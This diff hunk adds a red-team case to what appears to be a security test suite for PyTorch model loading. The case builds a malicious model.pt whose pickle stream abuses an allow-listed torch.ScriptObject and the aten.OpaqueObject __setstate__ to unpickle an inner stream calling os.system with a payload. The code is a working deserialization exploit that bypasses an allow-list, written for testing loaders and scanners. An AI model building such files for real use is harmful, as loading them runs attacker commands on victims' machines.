@@ -240,6 +240,22 @@ def _(d: Path) -> Path:
     return out
 
 
+@case("torchbind_opaque_object_unpickles_its_state", "redteam", exploit("dangerous-global", "aten.OpaqueObject"))
+def _(d: Path) -> Path:
+    # torch.ScriptObject is allow-listed for quantized packed weights; BUILD names the TorchBind class whose
+    # __setstate__ runs. aten.OpaqueObject's base64-decodes its state and unpickles it with plain pickle.
+    import base64
+
+    inner = f"cos\nsystem\n(S'{PAYLOAD}'\ntR.".encode()  # the state passes through UTF-8 text: protocol 0
+
+    def payload(a: Asm) -> None:
+        a.global_("torch", "ScriptObject").op("EMPTY_TUPLE").op("NEWOBJ")
+        a.str_(base64.b64encode(inner).decode()).str_("__torch__.torch.classes.aten.OpaqueObject")
+        a.op("TUPLE2").op("BUILD")
+
+    return torch_zip(d / "model.pt", with_payload(payload))
+
+
 # --- torch's dependencies --------------------------------------------------------------------------------
 
 
